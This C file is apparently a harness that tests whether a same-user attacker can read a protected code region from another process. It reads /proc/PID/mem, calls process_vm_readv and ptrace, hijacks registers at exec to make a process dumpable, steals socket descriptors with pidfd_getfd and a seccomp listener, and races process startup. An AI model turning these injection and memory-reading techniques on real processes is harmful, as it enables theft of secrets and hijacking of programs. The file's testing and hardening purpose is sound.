/* What a customer can try against a process of his own uid. The marker is in no argument: it is recognised by its first bytes.
 *   attacker try PID ADDRESS            prints the name of every way that got at the process
 *   attacker race WAY ROUNDS ADDRESS COMMAND...   starts COMMAND so often, races against each start, and prints what came of it
 * Ways of racing: memory (mem, process_vm_readv), trace (ptrace), asked (a child that asks to be traced), held (a child that its tracer opens
 * at its exec and lets go then; INTERPRETER names the file in which it begins), socket (duplicates of the client's sockets, connections to
 * every abstract name), answered (a filter of system calls whose owner answers in the kernel's place). */
#define _GNU_SOURCE
#include <elf.h>
#include <errno.h>
#include <linux/filter.h>
#include <linux/perf_event.h>
#include <linux/seccomp.h>
#include <poll.h>
#include <stddef.h>
#include <signal.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/personality.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/user.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

static unsigned long address;
static long opened, leaked, traced, sockets, strangers, descriptors;

static int marker(const char *bytes, long count) { return count >= 32 && !memcmp(bytes, "only-the-processor-may-read-this", 32); }

static int from_file(int fd) {
    char bytes[64];
    return marker(bytes, pread(fd, bytes, sizeof bytes, address));
}

static int from_memory(pid_t pid) {
    char bytes[64];
    struct iovec here = {bytes, sizeof bytes}, there = {(void *)address, sizeof bytes};
    return marker(bytes, process_vm_readv(pid, &here, 1, &there, 1, 0));
}

/* A traced process that stopped; its memory is looked at. */
static int from_trace(pid_t pid) {
    long words[8];
    for (int n = 0; n < 8; n++) {
        errno = 0;
        words[n] = ptrace(PTRACE_PEEKTEXT, pid, address + 8 * n, 0);
        if (errno) return 0;
    }
    return marker((char *)words, sizeof words);
}

/* How many descriptors lie on a socket. They are left there: a client that is disturbed would not go on. */
static int received(int socket) {
    char byte[64], control[CMSG_SPACE(16 * sizeof(int))];
    struct iovec vector = {byte, sizeof byte};
    struct msghdr message = {.msg_iov = &vector, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control};
    if (recvmsg(socket, &message, MSG_PEEK | MSG_DONTWAIT | MSG_CMSG_CLOEXEC) < 0) return 0;
    int count = 0;
    for (struct cmsghdr *c = CMSG_FIRSTHDR(&message); c; c = CMSG_NXTHDR(&message, c))
        if (c->cmsg_type == SCM_RIGHTS) count += (c->cmsg_len - CMSG_LEN(0)) / sizeof(int);
    return count;
}

static void try_all(pid_t pid) {
    char path[64];
    const char *files[] = {"mem", "maps", "environ", "auxv", "exe", "fd/0", "pagemap", "syscall", "stack", "smaps", "numa_maps",
                           "map_files", "fd", "cwd", "root", "io", "personality", "clear_refs"};
    for (unsigned n = 0; n < sizeof files / sizeof *files; n++) {
        for (int task = 0; task < 2; task++) {
            char name[64];
            if (task) snprintf(name, sizeof name, "task/%d/%s", pid, files[n]);
            else snprintf(name, sizeof name, "%s", files[n]);
            snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
            int fd = open(path, (strcmp(files[n], "clear_refs") ? O_RDONLY : O_WRONLY) | O_NONBLOCK);
            if (fd >= 0) puts(name);
            if (fd >= 0 && !n && from_file(fd)) puts("the code, from mem");
            if (!n && (fd = open(path, O_WRONLY)) >= 0) puts("mem, for writing");
        }
    }
    struct perf_event_attr sample = {.type = PERF_TYPE_SOFTWARE, .size = sizeof sample, .config = PERF_COUNT_SW_TASK_CLOCK};
    sample.exclude_kernel = sample.exclude_hv = 1;
    if (syscall(SYS_perf_event_open, &sample, pid, -1, -1, 0) >= 0) puts("perf");
    if (from_memory(pid)) puts("the code, by process_vm_readv");
    char zeros[8] = {0};
    struct iovec here = {zeros, 1}, there = {(void *)(address & ~4095ul), 1};
    if (process_vm_writev(pid, &here, 1, &there, 1, 0) >= 0 || errno != EPERM) puts("process_vm_writev");
    int pidfd = syscall(SYS_pidfd_open, pid, 0);
    if (syscall(SYS_pidfd_getfd, pidfd, 0, 0) >= 0) puts("pidfd_getfd");
    if (!ptrace(PTRACE_SEIZE, pid, 0, 0)) {
        puts("ptrace");
        ptrace(PTRACE_INTERRUPT, pid, 0, 0);
        waitpid(pid, NULL, __WALL);
        if (from_trace(pid)) puts("the code, by ptrace");
        ptrace(PTRACE_DETACH, pid, 0, 0);
    }
    if (!ptrace(PTRACE_ATTACH, pid, 0, 0)) {
        puts("ptrace, the old way");
        waitpid(pid, NULL, __WALL);
        ptrace(PTRACE_DETACH, pid, 0, 0);
    }
}

/* A child that asked to be traced: at each of its stops its memory is looked at. */
static int race_asked(pid_t pid, int *status) {
    if (waitpid(pid, status, __WALL) == pid && !WIFSTOPPED(*status)) return 1;
    traced++;
    leaked += from_trace(pid) + from_memory(pid);
    int signal = WSTOPSIG(*status) == SIGTRAP ? 0 : WSTOPSIG(*status);
    ptrace(PTRACE_SYSCALL, pid, 0, signal);
    return 0;
}

/* Where a file of code has a system call instruction, from its entry point. */
static long gadget(const char *path) {
    static unsigned char bytes[1 << 20];
    int fd = open(path, O_RDONLY);
    long length = read(fd, bytes, sizeof bytes);
    close(fd);
    Elf64_Ehdr *file = (void *)bytes;
    Elf64_Phdr *part = (void *)(bytes + file->e_phoff);
    for (int n = 0; n < file->e_phnum; n++)
        for (unsigned long at = part[n].p_offset; part[n].p_flags & PF_X && at < part[n].p_offset + part[n].p_filesz && at + 1 < length; at++)
            if (bytes[at] == 0x0f && bytes[at + 1] == 0x05) return at - part[n].p_offset + part[n].p_vaddr - file->e_entry;
    return 0;
}

/* A child at its exec: its registers are its tracer's, though its memory is not. It is made to open its memory to its user, closed
 * again, and let go. */
static void hold(pid_t pid, int *kept, int *count) {
    int status;
    struct user_regs_struct before, call;
    char path[64];
    if (waitpid(pid, &status, __WALL) != pid || !WIFSTOPPED(status) || ptrace(PTRACE_GETREGS, pid, 0, &before)) return;
    traced++;
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    for (int open_to_all = 1; open_to_all >= 0; open_to_all--) {
        call = before;
        call.rip += gadget(getenv("INTERPRETER"));
        call.orig_rax = -1;
        call.rax = SYS_prctl;
        call.rdi = PR_SET_DUMPABLE;
        call.rsi = open_to_all;
        ptrace(PTRACE_SETREGS, pid, 0, &call);
        ptrace(PTRACE_SINGLESTEP, pid, 0, 0);
        waitpid(pid, &status, __WALL);
        int fd = open_to_all ? open(path, O_RDWR) : -1;
        if (fd >= 0) opened++, kept[(*count)++] = fd;
    }
    ptrace(PTRACE_SETREGS, pid, 0, &before);
    ptrace(PTRACE_DETACH, pid, 0, 0);
}

/* A child whose calls of socket (SEQPACKET) and recvmsg wait for an answer from here; the descriptor of its filter lies under the same
 * number in both until it execs. */
static pid_t answered(char **command, int *listener) {
    int number[2];
    pipe2(number, O_CLOEXEC);
    pid_t pid = syscall(SYS_clone, CLONE_FILES | SIGCHLD, 0, 0, 0, 0);
    if (pid) {
        read(number[0], listener, sizeof *listener);
        return pid;
    }
    struct sock_filter code[] = {
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_recvmsg, 4, 0),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_socket, 0, 4),
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, args[1])),
        BPF_STMT(BPF_ALU | BPF_AND | BPF_K, 15),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SOCK_SEQPACKET, 0, 1),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
    };
    struct sock_fprog program = {sizeof code / sizeof *code, code};
    prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
    int filter = syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER, &program);
    write(number[1], &filter, sizeof filter);
    personality(ADDR_NO_RANDOMIZE);
    execv(*command, command);
    _exit(99);
}

/* Whether the marker is in a file that was meant for another. */
static int in_file(int fd) {
    static char bytes[1 << 20];
    long length = pread(fd, bytes, sizeof bytes, 0);
    for (long at = 0; at + 32 <= length; at++)
        if (marker(bytes + at, 32)) return 1;
    return 0;
}

/* Gives the child a socket of which a duplicate stays here, and takes what comes on it. */
static void race_answered(int listener, int *kept, int *count) {
    struct pollfd one = {listener, POLLIN, 0};
    struct seccomp_notif asked = {0};
    if (poll(&one, 1, 1) <= 0 || !(one.revents & POLLIN) || ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV, &asked)) return;
    if (asked.data.nr == SYS_socket) {
        int fd = socket(asked.data.args[0], asked.data.args[1] | SOCK_CLOEXEC, 0);
        struct seccomp_notif_addfd given = {.id = asked.id, .flags = SECCOMP_ADDFD_FLAG_SEND, .srcfd = fd};
        if (ioctl(listener, SECCOMP_IOCTL_NOTIF_ADDFD, &given) >= 0) sockets++;
        if (*count < 64) kept[(*count)++] = fd;
        return;
    }
    for (int n = 0; n < *count; n++) {
        char byte[64], control[CMSG_SPACE(16 * sizeof(int))];
        struct iovec vector = {byte, sizeof byte};
        struct msghdr message = {.msg_iov = &vector, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control};
        if (recvmsg(kept[n], &message, MSG_DONTWAIT | MSG_CMSG_CLOEXEC) < 0) continue;
        for (struct cmsghdr *c = CMSG_FIRSTHDR(&message); c; c = CMSG_NXTHDR(&message, c))
            for (unsigned i = 0; i < (c->cmsg_len - CMSG_LEN(0)) / sizeof(int); i++) {
                int fd = ((int *)CMSG_DATA(c))[i];
                descriptors++;
                leaked += in_file(fd);
                close(fd);
            }
    }
    struct seccomp_notif_resp answer = {.id = asked.id, .error = -ECONNRESET};
    ioctl(listener, SECCOMP_IOCTL_NOTIF_SEND, &answer);
}

static void race_memory(pid_t pid, int *kept, int *count) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    int fd = open(path, O_RDWR);
    if (fd >= 0) {
        opened++;
        if (*count < 64) kept[(*count)++] = fd;
        else close(fd);
    }
    for (int n = 0; n < *count; n++) leaked += from_file(kept[n]);
    leaked += from_memory(pid);
}

/* Whether the process ended meanwhile. */
static int race_trace(pid_t pid, int *status) {
    if (ptrace(PTRACE_SEIZE, pid, 0, PTRACE_O_TRACEEXEC)) return 0;
    traced++;
    for (int n = 0; n < 50; n++) {
        ptrace(PTRACE_INTERRUPT, pid, 0, 0);
        if (waitpid(pid, status, __WALL) == pid && !WIFSTOPPED(*status)) return 1;
        leaked += from_trace(pid);
        ptrace(PTRACE_CONT, pid, 0, 0);
        usleep(200);
    }
    ptrace(PTRACE_INTERRUPT, pid, 0, 0);
    if (waitpid(pid, status, __WALL) == pid && !WIFSTOPPED(*status)) return 1;
    ptrace(PTRACE_DETACH, pid, 0, 0);
    return 0;
}

static void race_socket(pid_t pid, int *kept, int *count) {
    int pidfd = syscall(SYS_pidfd_open, pid, 0);
    for (int n = 3; n < 12; n++) {
        int fd = syscall(SYS_pidfd_getfd, pidfd, n, 0), type;
        socklen_t length = sizeof type;
        if (fd < 0) continue;
        if (getsockopt(fd, SOL_SOCKET, SO_TYPE, &type, &length)) { close(fd); continue; }
        sockets++;
        descriptors += received(fd);
        if (*count < 64) kept[(*count)++] = fd;
        else close(fd);
    }
    close(pidfd);
    char line[256];
    FILE *all = fopen("/proc/net/unix", "r");
    while (fgets(line, sizeof line, all)) {
        char *name = strchr(line, '@');
        if (!name) continue;
        name[strcspn(name, "\n")] = 0;
        for (int kind = 0; kind < 2; kind++) {
            struct sockaddr_un to = {.sun_family = AF_UNIX};
            memcpy(to.sun_path + 1, name + 1, strlen(name + 1));
            int fd = socket(AF_UNIX, (kind ? SOCK_STREAM : SOCK_SEQPACKET) | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
            if (fd < 0) continue;
            if (connect(fd, (struct sockaddr *)&to, 3 + strlen(name + 1))) { close(fd); continue; }
            strangers++;
            if (*count < 64) kept[(*count)++] = fd;
            else close(fd);
        }
    }
    fclose(all);
    for (int n = 0; n < *count; n++) descriptors += received(kept[n]);
}

int main(int argc, char **argv) {
    if (!strcmp(argv[1], "try")) {
        address = strtoul(argv[3], NULL, 16);
        try_all(atoi(argv[2]));
        return 0;
    }
    long rounds = atol(argv[3]), ran = 0, refused = 0, others = 0;
    address = strtoul(argv[4], NULL, 16);
    for (long round = 0; round < rounds; round++) {
        int listener = -1;
        pid_t pid = strcmp(argv[2], "answered") ? fork() : answered(argv + 5, &listener);
        if (!pid) {
            personality(ADDR_NO_RANDOMIZE);
            if (!strcmp(argv[2], "asked") || !strcmp(argv[2], "held")) ptrace(PTRACE_TRACEME, 0, 0, 0);
            execv(argv[5], argv + 5);
            _exit(99);
        }
        int kept[64], count = 0, status;
        if (!strcmp(argv[2], "held")) hold(pid, kept, &count);
        else if (listener < 0) usleep(round * 37 % 6000); /* Each round begins at another moment of the start. */
        for (;;) {
            if (!strcmp(argv[2], "asked")) {
                if (race_asked(pid, &status)) break;
                continue;
            }
            pid_t ended = waitpid(pid, &status, WNOHANG);
            if (ended == pid && (WIFEXITED(status) || WIFSIGNALED(status))) break;
            if (listener >= 0) race_answered(listener, kept, &count);
            else if (!strcmp(argv[2], "held")) { for (int n = 0; n < count; n++) leaked += from_file(kept[n]); }
            else if (!strcmp(argv[2], "memory")) race_memory(pid, kept, &count);
            else if (!strcmp(argv[2], "trace")) { if (race_trace(pid, &status)) break; }
            else race_socket(pid, kept, &count);
        }
        while (count) close(kept[--count]);
        if (listener >= 0) close(listener);
        if (WIFEXITED(status) && WEXITSTATUS(status) == 0) ran++;
        else if (WIFEXITED(status) && WEXITSTATUS(status) == 126) refused++;
        else others++;
    }
    printf("%ld ran %ld refused %ld others %ld opened %ld traced %ld sockets %ld strangers %ld descriptors %ld leaked\n", ran, refused,
           others, opened, traced, sockets, strangers, descriptors, leaked);
    return 0;
}
